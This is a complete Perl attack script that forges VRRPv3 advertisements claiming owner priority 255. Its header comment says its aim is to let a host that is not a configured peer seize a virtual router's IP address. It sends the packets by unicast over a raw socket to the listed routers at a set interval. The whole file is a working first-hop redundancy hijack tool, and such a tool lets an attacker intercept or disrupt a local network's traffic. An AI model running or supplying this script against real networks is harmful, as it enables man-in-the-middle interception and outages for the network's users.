#!/usr/bin/perl
# Sends VRRPv3 adverts (RFC 5798) with priority 255 for a virtual router, as a host that is not
# one of its named peers would to take its address over.
#   forge-vrrp-advert.pl SOURCE VIRTUAL_ADDRESS ROUTER_ID COUNT INTERVAL_MS TARGET...
# Unicast to each TARGET, from SOURCE (an address of this host), IP TTL 255. Needs CAP_NET_RAW.
use strict;
use warnings;
use Socket qw(AF_INET SOCK_RAW IPPROTO_IP inet_aton sockaddr_in);
use Time::HiRes qw(usleep);

my ($source, $address, $router_id, $count, $interval_ms, @targets) = @ARGV;
die "usage: $0 SOURCE VIRTUAL_ADDRESS ROUTER_ID COUNT INTERVAL_MS TARGET...\n" unless @targets;

use constant { IPPROTO_VRRP => 112, IP_TTL => 2 };

sub checksum {
	my $sum = 0;
	$sum += $_ for unpack('n*', $_[0] . (length($_[0]) % 2 ? "\0" : ''));
	$sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
	return ~$sum & 0xffff;
}

socket(my $socket, AF_INET, SOCK_RAW, IPPROTO_VRRP) or die "raw socket: $!\n";
setsockopt($socket, IPPROTO_IP, IP_TTL, pack('i', 255)) or die "IP_TTL: $!\n";
bind($socket, sockaddr_in(0, inet_aton($source))) or die "bind $source: $!\n";

# Version 3, type 1 (advert); priority 255 (owner of the address); one IPv4 address;
# maximum advert interval 10 centiseconds.
my %advert;
for my $target (@targets) {
	my $body = sub { pack('C C C C n n a4', 0x31, $router_id, 255, 1, 10, $_[0], inet_aton($address)) };
	my $pseudo = pack('a4 a4 C C n', inet_aton($source), inet_aton($target), 0, IPPROTO_VRRP, length($body->(0)));
	$advert{$target} = $body->(checksum($pseudo . $body->(0)));
}
for (1 .. $count) {
	for my $target (@targets) {
		send($socket, $advert{$target}, 0, sockaddr_in(0, inet_aton($target))) or die "send to $target: $!\n";
	}
	usleep($interval_ms * 1000);
}
print "sent $count adverts to each of @targets\n";
